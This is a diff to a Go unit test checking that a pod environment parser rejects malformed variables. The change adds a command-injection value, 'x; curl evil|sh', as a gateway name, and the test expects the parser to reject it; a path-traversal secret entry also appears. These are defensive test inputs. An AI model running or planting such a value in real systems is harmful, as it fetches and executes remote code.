@@ -52,9 +52,9 @@ func TestObjectCachePerDataDirectory(t *testing.T) {
 
 func TestPodEnvironment(t *testing.T) {
 	var out bytes.Buffer
-	_, err := parse(nil, []string{"POD_NAME=line-0", "CR_NAME=Site", "GATEWAY_PORT=0", "GATEWAY_TLS=maybe", "SYNC_PERIOD=1", "SECRETS=git/token,../x", "GATEWAY_MOUNTS=config"}, &out)
+	_, err := parse(nil, []string{"POD_NAME=line-0", "CR_NAME=Site", "GATEWAY_NAME=x; curl evil|sh", "GATEWAY_PORT=0", "GATEWAY_TLS=maybe", "SYNC_PERIOD=1", "SECRETS=git/token,../x", "GATEWAY_MOUNTS=config"}, &out)
 	require.ErrorIs(t, err, daemon.ErrUsage)
-	for _, want := range []string{"POD_NAMESPACE is required", "POD_UID is required", "GATEWAY_NAME is required", "DATA_PATH is required", `CR_NAME: "Site"`, "GATEWAY_PORT", "GATEWAY_TLS", "SYNC_PERIOD", "SECRETS", `GATEWAY_MOUNTS: "config" is not a list`} {
+	for _, want := range []string{"POD_NAMESPACE is required", "POD_UID is required", `GATEWAY_NAME: "x; curl evil|sh" is not the name of a gateway`, "DATA_PATH is required", `CR_NAME: "Site"`, "GATEWAY_PORT", "GATEWAY_TLS", "SYNC_PERIOD", "SECRETS", `GATEWAY_MOUNTS: "config" is not a list`} {
 		assert.Contains(t, out.String(), want)
 	}
 	assert.NotContains(t, out.String(), "--file", "a pod needs no --file")
